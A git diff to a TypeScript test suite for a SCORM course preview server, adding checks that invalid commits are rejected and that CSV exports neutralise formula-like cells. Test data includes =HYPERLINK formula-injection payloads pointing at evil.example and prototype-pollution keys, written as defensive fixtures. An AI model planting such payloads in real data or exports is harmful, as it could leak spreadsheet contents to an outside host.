@@ -3,7 +3,8 @@ import { request } from 'node:http';
 import { after, before, describe, it } from 'node:test';
 import { parseCsv } from './csv.js';
 import { startPreview, type PreviewServer } from './preview-server.js';
-import { tempPreviewDirs } from './test-kit.js';
+import { DEFAULT_LEARNERS } from './store.js';
+import { TEST_QUESTIONS, tempPreviewDirs } from './test-kit.js';
 
 type Json = Record<string, unknown>;
 
@@ -21,6 +22,8 @@ before(async () => {
     buildDir: dirs.buildDir,
     maxBodyBytes: MAX_BODY,
     now: () => new Date((clock += 1000)),
+    // A learner whose name a spreadsheet would run as a formula (the CSV must not).
+    learners: [...DEFAULT_LEARNERS, { id: 'hv_formula', name: '=HYPERLINK("http://evil.example","Jones")' }],
   });
 });
 after(async () => {
@@ -417,6 +420,19 @@ describe('bad requests get clear 4xx answers and never touch the records', () =>
       [{ ...cmi12(), commitSequence: -1 }, /commitSequence/],
       [{ cmi: { core: { lesson_status: 'x', 'bad key': 'y' } } }, /invalid key/],
       [cmi12({ session_time: 'ten minutes' }), /unreadable session time/],
+      [
+        { cmi: JSON.parse('{"core":{"lesson_status":"x"},"__proto__":{"polluted":"yes"}}') as unknown },
+        /"__proto__"/,
+      ],
+      [
+        cmi12({}, { constructor: { prototype: 'x' } }),
+        /cmi has the key "constructor", which is not a CMI element/,
+      ],
+      [cmi12({}, { interactions: { prototype: 'x' } }), /"prototype"/],
+      [
+        cmi12({ session_time: '9999:00:00' }),
+        /session time "9999:00:00" is about 9,999 hours; a session is at most 168 hours/,
+      ],
       [{ cmi: JSON.parse(`${'{"a":'.repeat(12)}"deep"${'}'.repeat(12)}`) as unknown }, /nested too deeply/],
     ];
     for (const [body, message] of cases) {
@@ -425,6 +441,26 @@ describe('bad requests get clear 4xx answers and never touch the records', () =>
       assert.match(String(response.json.error), message);
     }
     await unchanged();
+  });
+
+  it('an absurd 2004 session time → 400, and later launches keep a sane total_time', async () => {
+    const first = await launch('hv_chidi', 'scorm2004');
+    const poisoned = await post(
+      `${first.commitUrl}?terminate=true`,
+      cmi2004({ session_time: `PT${'9'.repeat(30)}H` }),
+      'text/plain',
+    );
+    assert.equal(poisoned.status, 400);
+    assert.match(
+      String(poisoned.json.error),
+      /session time "PT9{20}.*a session is at most 168 hours.*nothing was stored/,
+    );
+    assert.equal(({} as Json).polluted, undefined, 'no commit reached Object.prototype');
+    const fine = await post(first.commitUrl, cmi2004({ session_time: 'PT5M58S' }));
+    assert.equal(fine.status, 200);
+    const again = await launch('hv_chidi', 'scorm2004');
+    assert.equal(again.attemptId, first.attemptId);
+    assert.equal(again.cmi.total_time, 'PT5M58S');
   });
 
   it('unsupported content type → 415', async () => {
@@ -518,9 +554,9 @@ describe('concurrent commits from two learners', () => {
 });
 
 describe('records', () => {
-  it('lists attempts and interactions, and exports CSV that round-trips awkward text', async () => {
+  it('shows answers in words beside the raw CMI, in the view and a CSV safe for spreadsheets', async () => {
     const one = await launch('hv_asha', 'scorm2004');
-    const description = 'Why, "exactly", would you\nwait?';
+    const description = '=HYPERLINK("http://evil.example/?"&A1,"Why, exactly, would you wait?")';
     const interactions = {
       0: {
         id: 'a_cues_a1',
@@ -529,17 +565,23 @@ describe('records', () => {
         learner_response: 'yawn[.]dis',
         result: 'incorrect',
         timestamp: '2026-01-05T09:00:10.5Z',
+        latency: 'PT12S',
         correct_responses: { 0: { pattern: 'yawn[.]eng' } },
       },
+      1: { id: 'stranger_a1', type: 'other', description, learner_response: '@x', result: 'neutral' },
     };
+    await post(
+      one.commitUrl,
+      cmi2004({ completion_status: 'completed', success_status: 'failed', session_time: 'PT1M' }),
+    );
     await post(
       `${one.commitUrl}?terminate=true`,
       cmi2004({
         interactions,
-        session_time: 'PT3M',
+        session_time: 'PT5M58S',
         score: { scaled: '0.75', raw: '75', min: '0', max: '100' },
-        success_status: 'failed',
-        completion_status: 'incomplete',
+        success_status: 'passed',
+        completion_status: 'completed',
       }),
       'text/plain',
     );
@@ -551,6 +593,7 @@ describe('records', () => {
         student_response: 'a',
         result: 'correct',
         time: '09:01:00',
+        latency: '00:00:07',
         correct_responses: { 0: { pattern: 'a' } },
       },
       1: {
@@ -563,41 +606,152 @@ describe('records', () => {
       },
       2: { id: 'unknown_x', type: 'choice', student_response: '<script>', result: 'wrong', time: '09:03:00' },
     };
-    await post(twelve.commitUrl, cmi12({ lesson_status: 'incomplete' }, { interactions: interactions12 }));
+    await post(
+      twelve.commitUrl,
+      cmi12(
+        { lesson_status: 'passed', exit: 'suspend', session_time: '00:02:05' },
+        { interactions: interactions12 },
+      ),
+    );
+    const formula = await launch('hv_formula', 'scorm12');
+    await post(formula.commitUrl, cmi12());
 
     const csvResponse = await fetch(url('/records.csv'));
     assert.equal(csvResponse.status, 200);
     assert.match(csvResponse.headers.get('content-type') ?? '', /^text\/csv/);
-    const rows = parseCsv(await csvResponse.text());
+    assert.match(
+      csvResponse.headers.get('content-disposition') ?? '',
+      /^attachment; filename="test_course-1\.2\.3-records-2026-01-05\.csv"$/,
+      'the file names the course, its version and the date',
+    );
+    const text = await csvResponse.text();
+    // No cell starts a formula: each formula-like value became quoted text starting with a quote.
+    assert.doesNotMatch(text, /(^|,|\r\n)([=+\-@\t]|\r(?!\n))/);
+    assert.match(text, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1/);
+    const rows = parseCsv(text);
     const header = rows[0] ?? [];
-    const col = (row: string[], name: string) => row[header.indexOf(name)];
+    const col = (row: string[], name: string) => {
+      assert.ok(header.includes(name), `column ${name}`);
+      return row[header.indexOf(name)];
+    };
     const cues = rows.find((r) => col(r, 'interaction_id') === 'a_cues_a1');
     assert.ok(cues);
-    assert.equal(col(cues, 'question'), description);
-    assert.equal(col(cues, 'learner_name'), 'Patel, Asha');
-    assert.equal(col(cues, 'success'), 'failed');
-    assert.equal(col(cues, 'score_percent'), '75');
-    assert.equal(col(cues, 'total_time'), 'PT3M');
-    assert.equal(col(cues, 'content_version'), '1.2.3');
-    assert.equal(col(cues, 'correct_response'), 'yawn[.]eng');
-    const bonding = rows.find((r) => col(r, 'interaction_id') === 'k1_bonding_k');
     assert.equal(
-      bonding && col(bonding, 'question'),
-      'Which is bonding, "the parent\'s feelings", or the baby\'s?',
-      '1.2 ids map back to the question',
+      col(cues, 'question'),
+      TEST_QUESTIONS[2]?.prompt,
+      '2004: the full prompt, not the description',
+    );
+    assert.equal(col(cues, 'question_id'), 'a_cues');
+    assert.equal(col(cues, 'kind'), 'Assessment, attempt 1');
+    assert.equal(col(cues, 'assessment_attempt'), '1');
+    assert.equal(col(cues, 'learner_name'), 'Patel, Asha');
+    assert.equal(col(cues, 'success'), 'passed');
+    assert.equal(col(cues, 'score_percent'), '75');
+    assert.equal(col(cues, 'total_time'), '5 min 58 s', 'one session: its last session_time counts');
+    assert.equal(col(cues, 'total_time_cmi'), 'PT5M58S');
+    assert.equal(col(cues, 'content_version'), '1.2.3');
+    assert.equal(col(cues, 'learner_response'), 'Yawning → Disengagement');
+    assert.equal(col(cues, 'learner_response_cmi'), 'yawn[.]dis');
+    assert.equal(col(cues, 'correct_response'), 'Yawning → Engagement');
+    assert.equal(col(cues, 'correct_response_cmi'), 'yawn[.]eng');
+    assert.equal(col(cues, 'result'), 'incorrect');
+    assert.equal(col(cues, 'latency'), '12 s');
+    assert.equal(col(cues, 'attempt_state'), 'open');
+    assert.match(
+      col(cues, 'attempt_state_note') ?? '',
+      /exit "suspend".*"completed" is already recorded and stands/,
+    );
+    // Completed at the first commit, passed at the second: the server's clock, one second a call.
+    const completedAt = col(cues, 'completed_at') ?? '';
+    const passedAt = col(cues, 'passed_at') ?? '';
+    assert.match(completedAt, /^2026-01-05T\d\d:\d\d:\d\d\.\d{3}Z$/);
+    assert.ok(passedAt > completedAt, `${passedAt} after ${completedAt}`);
+    const stranger = rows.find((r) => col(r, 'interaction_id') === 'stranger_a1');
+    assert.ok(stranger);
+    assert.equal(
+      col(stranger, 'question'),
+      `'${description}`,
+      'unknown ids keep the description, neutralised',
+    );
+    assert.equal(col(stranger, 'learner_response_cmi'), "'@x");
+    assert.equal(col(stranger, 'kind'), '');
+
+    const bonding = rows.find((r) => col(r, 'interaction_id') === 'k1_bonding_k');
+    assert.ok(bonding);
+    assert.equal(col(bonding, 'question'), TEST_QUESTIONS[0]?.prompt, '1.2 ids map back to the question');
+    assert.equal(col(bonding, 'kind'), 'Practice check');
+    assert.equal(col(bonding, 'assessment_attempt'), '');
+    assert.equal(col(bonding, 'learner_response'), "The parent's feelings");
+    assert.equal(col(bonding, 'latency'), '7 s');
+    assert.equal(col(bonding, 'attempt_state'), 'open');
+    assert.match(col(bonding, 'attempt_state_note') ?? '', /suspended it.*"passed" is already recorded/);
+    assert.ok(
+      col(bonding, 'completed_at') && col(bonding, 'passed_at'),
+      '1.2 passed counts as completed too',
     );
     const k1 = rows.find((r) => col(r, 'interaction_id') === 'k1_a2');
-    assert.equal(k1 && col(k1, 'question'), 'A shorter id that is a prefix of another');
+    assert.ok(k1);
+    assert.equal(col(k1, 'question'), 'A shorter id that is a prefix of another');
+    assert.equal(col(k1, 'kind'), 'Assessment, attempt 2');
+    assert.equal(col(k1, 'learner_response'), 'True');
+    assert.equal(col(k1, 'correct_response'), 'False');
+    assert.equal(col(k1, 'result'), 'incorrect');
+    assert.equal(col(k1, 'result_cmi'), 'wrong');
     assert.ok(rows.every((r) => r.length === header.length));
     assert.ok(
       rows.some((r) => col(r, 'learner_name') === "O'Connor, Chidi"),
       'attempts without interactions still have a row',
+    );
+    assert.ok(
+      rows.some((r) => col(r, 'learner_name') === `'=HYPERLINK("http://evil.example","Jones")`),
+      'a learner name starting with = is exported as text',
     );
 
     const html = await (await fetch(url('/records'))).text();
     assert.match(html, /Patel, Asha/);
     assert.match(html, /<code>&lt;script&gt;<\/code>/);
     assert.doesNotMatch(html, /<script>/);
-    assert.match(html, /Why, &quot;exactly&quot;, would you\nwait\?/);
+    assert.match(
+      html,
+      /<span class="words">Yawning → Disengagement<\/span><span class="raw">CMI <code>yawn\[\.\]dis<\/code>/,
+    );
+    assert.match(html, /download="test_course-1\.2\.3-records-2026-01-05\.csv"/);
+    // The reset buttons sit in their own section after every attempt's audit data.
+    const lastAttempt = html.lastIndexOf('<section class="attempt"');
+    const controls = html.indexOf('<section class="controls"');
+    assert.ok(controls > lastAttempt, 'reset controls come after the records');
+    assert.equal(html.slice(0, controls).includes('Reset this attempt'), false);
+    assert.match(html.slice(controls), /Reset this attempt/);
   });
+});
+
+describe('serving course.js wrongly, to test the failed-load message', () => {
+  for (const [fault, status, type] of [
+    ['octet-stream', 200, 'application/octet-stream'],
+    ['missing', 404, 'application/json'],
+  ] as const) {
+    it(`courseScript: '${fault}' → ${status} ${type}; the rest of the package is served as usual`, async () => {
+      const faulty = await startPreview({
+        port: 0,
+        contentPort: 0,
+        dataDir: `${dirs.dataDir}-${fault}`,
+        buildDir: dirs.buildDir,
+        courseScript: fault,
+      });
+      try {
+        for (const origin of [faulty.url, `${faulty.contentOrigin}/`]) {
+          const script = await fetch(new URL('course/scorm12/course.js', origin));
+          assert.equal(script.status, status);
+          assert.match(script.headers.get('content-type') ?? '', new RegExp(`^${type}`));
+          assert.equal(script.headers.get('x-content-type-options'), 'nosniff');
+          const page = await fetch(new URL('course/scorm2004/index.html', origin));
+          assert.equal(page.status, 200);
+        }
+      } finally {
+        await faulty.close();
+      }
+      const normal = await fetch(url('/course/scorm12/course.js'));
+      assert.match(normal.headers.get('content-type') ?? '', /javascript/);
+    });
+  }
 });
